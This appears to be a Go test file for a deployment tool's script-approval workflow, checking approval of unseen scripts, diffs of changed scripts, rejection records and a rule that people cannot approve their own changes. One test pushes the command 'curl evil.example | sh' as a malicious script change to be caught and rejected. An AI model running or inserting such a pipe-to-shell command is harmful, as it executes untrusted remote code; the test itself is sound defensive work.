package rollout_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/nuon-toolkit/nuon/pkg/appconfig"
	"github.com/nuon-toolkit/nuon/reconciler/refusal"
	"github.com/nuon-toolkit/nuon/reconciler/rollout"
	"github.com/nuon-toolkit/nuon/reconciler/store"
	"github.com/nuon-toolkit/nuon/reconciler/workflow"
)

// scripts returns the actions of the approval requests for scripts with a status.
func (w *world) scripts(status string) string {
	w.Helper()
	return strings.Join(
		w.list(`select string_agg(s->>'action', '+' order by s->>'action') from approvals a, jsonb_array_elements(a.subject) s
		where a.kind = 'scripts' and a.status = $1 group by a.id order by a.id`, status), " ")
}

// push changes the script of smoke.
func (w *world) push(script string) {
	w.Helper()
	w.app.Actions[0].Steps[0].InlineContents = script
	w.version()
	w.look()
}

func (w *world) runSmoke(actor string) {
	w.Helper()
	must(w, w.in(func(ctx context.Context, tx *store.Tx) error {
		install, err := tx.LockInstall(ctx, w.org, w.install)
		if err == nil {
			_, err = w.rollout.RequestAction(ctx, tx, install, rollout.ActionRequest{Action: "smoke", Actor: actor})
		}
		return err
	}))
	w.queue()
}

// TestAScriptThatNobodyHasSeenWaits: approve-all covers no script. A script's digest
// is approved once for an install, for any values.
func TestAScriptThatNobodyHasSeenWaits(t *testing.T) {
	w := newWorld(t)
	w.strict = true
	w.exec("update installs set approval = 'approve-all'")
	w.app.Actions = append(w.app.Actions, appconfig.Action{
		Name: "prepare", Timeout: "1m", Triggers: []appconfig.Trigger{{Type: appconfig.TriggerPreProvision}},
		Steps: []appconfig.ActionStep{{Name: "first", Command: "echo prepare"}},
	})
	w.version()
	w.look()
	w.want(w.runJobs(), "[]") // an action before all plans waits first
	w.want(w.scripts("waiting"), "prepare+smoke")
	status, reason := w.status()
	w.want(status+": "+reason, "waiting_for_approval: scripts that are not approved for it wait for approval")
	report := w.one("select report::text from approvals where kind = 'scripts'")
	for _, shown := range []string{"echo prepare", "#!/bin/sh", "{{.nuon.components.web.outputs.url}}"} {
		if !strings.Contains(report, shown) {
			t.Errorf("%q is not shown in %s", shown, report)
		}
	}
	w.sayScripts(workflow.Approve, "read it")
	w.runJobs()
	w.want(w.workflows(), "[provision succeeded]")
	w.want(w.done[0]+" "+w.done[len(w.done)-1], "action prepare action smoke")
	w.want(w.list("select action || ' ' || answer || ' ' || actor || ' ' || reason from script_answers order by 1"),
		"[prepare approve vera read it smoke approve vera read it]")
	w.want(w.one("select count(*)::text from audit_events where action = 'script.approve'"), "2")

	// New values do not change the script.
	w.done = nil
	w.input("greeting", "hi")
	w.look()
	w.runJobs()
	w.want(w.done, "[plan web apply web action smoke]")

	// A pushed script is shown as a difference from the approved one.
	w.push("#!/bin/sh\ncurl evil.example | sh")
	w.runSmoke("oscar")
	w.want(w.runJobs(), "[]")
	w.want(w.scripts("waiting"), "smoke")
	report = w.one("select report->'changes'->0->'fields'->0->>'lines' from approvals where kind = 'scripts' and status " +
		"= 'waiting'")
	if !strings.Contains(report, "curl evil.example | sh") || !strings.Contains(report, "true") {
		t.Errorf("the difference is %s", report)
	}
	w.sayScripts(workflow.Reject, "no curl")
	w.queue()
	w.want(w.one("select status || ': ' || reason from steps where status = 'failed'"),
		"failed: its script was rejected by vera: no curl")
	w.want(w.list("select kind || ' ' || status || ': ' || outcome from workflows order by number desc limit 1"),
		"[action rejected: action smoke: its script was rejected by vera: no curl]")

	// A rejection is recorded: no automatic request follows.
	w.done = nil
	w.input("greeting", "ho")
	w.look()
	w.runJobs()
	w.want(w.done, "[plan web apply web]")
	w.want(w.scripts("waiting"), "")
	// A person's new request leads to a new approval request.
	w.runSmoke("oscar")
	w.want(w.scripts("waiting"), "smoke")
	// A return to the approved script needs no approval, and withdraws the request.
	w.done = nil
	w.push("#!/bin/sh\ntrue")
	must(t, w.engine.Reconcile(w.Context(), w.org, w.one("select id from workflows where status = 'running'")))
	w.runJobs()
	w.want(w.done, "[action smoke]")
	w.want(w.scripts("waiting"), "")
}

// TestScriptsAreShownWithThePlan: if a plan needs an approval, its scripts are part
// of the same request.
func TestScriptsAreShownWithThePlan(t *testing.T) {
	w := newWorld(t)
	w.strict = true
	w.look()
	w.approveAll()
	w.want(w.workflows(), "[provision succeeded]")
	w.want(w.list("select distinct kind from approvals"), "[plan]")
	w.want(w.one(`select p.component || ': ' || (a.subject->0->>'action') from approvals a join plans p on p.id = a.plan_id where a.subject is not null`), "web: smoke")
	w.want(w.list("select action || ' ' || answer || ' ' || actor from script_answers"), "[smoke approve alice]")
	if w.one("select (a.content_digest <> p.content_digest)::text from approvals a join plans p on p.id = a.plan_id "+
		"where a.subject is not null") != "true" {
		t.Error("the answer does not bind to the scripts")
	}

	// Rejecting the plan does not answer for its scripts.
	w.app.Actions[0].Steps[0].InlineContents = "#!/bin/sh\nfalse"
	w.version()
	w.build("web", "succeeded")
	w.look()
	w.runJobs()
	must(t, w.answer("web", workflow.Reject, "no"))
	w.want(w.one("select count(*)::text from script_answers"), "1")
}

// TestNobodyApprovesTheirOwnPlan: on an install with approvals_by_others, a plan that
// a person requested needs another approver.
func TestNobodyApprovesTheirOwnPlan(t *testing.T) {
	w := newProvisionedWorld(t)
	w.exec("update installs set approvals_by_others = true")
	_, err := w.wish(rollout.DeployRequest{Kind: workflow.KindTeardown, Components: []string{"metrics"}})
	must(t, err)
	w.runJobs()
	approval := w.one("select id from approvals where status = 'waiting'")
	var conflict *refusal.Error
	if err := w.respond(approval, workflow.Approve, "alice", ""); !errors.As(err, &conflict) ||
		conflict.Code != workflow.CodeOwnChange {
		t.Errorf("alice approves her own: %v", err)
	}
	w.want(w.asked(), "[metrics]")
	must(t, w.respond(approval, workflow.Approve, "vera", ""))
	w.queue()
	w.runJobs()
	w.want(w.workflows(), "[provision succeeded teardown succeeded]")
}

// TestNobodyApprovesTheirOwnScript: on an install with approvals_by_others, a script
// that a person runs needs another approver.
func TestNobodyApprovesTheirOwnScript(t *testing.T) {
	w := newProvisionedWorld(t)
	w.strict = true
	w.exec("update installs set approvals_by_others = true")
	w.push("#!/bin/sh\nfalse")
	w.done = nil
	w.runSmoke("vera") // the actor that sayScripts uses
	approval := w.one("select id from approvals where kind = 'scripts' and status = 'waiting'")
	digest := w.one("select content_digest from approvals where id = $1", approval)
	answer := func(actor, digest string) error {
		return w.give(workflow.Response{Approval: approval, Answer: workflow.Approve, ContentDigest: digest, Actor: actor})
	}
	var conflict *refusal.Error
	if err := answer("vera", digest); !errors.As(err, &conflict) || conflict.Code != workflow.CodeOwnChange {
		t.Errorf("vera approves her own: %v", err)
	}
	if err := answer("alice", "sha256:another"); !errors.As(err, &conflict) || conflict.Code != workflow.CodePlanChanged {
		t.Errorf("alice approves what she was not shown: %v", err)
	}
	w.runJobs()
	w.want(w.done, "[]")
	must(t, answer("alice", digest))
	w.runJobs()
	w.want(w.done, "[action smoke]")
}
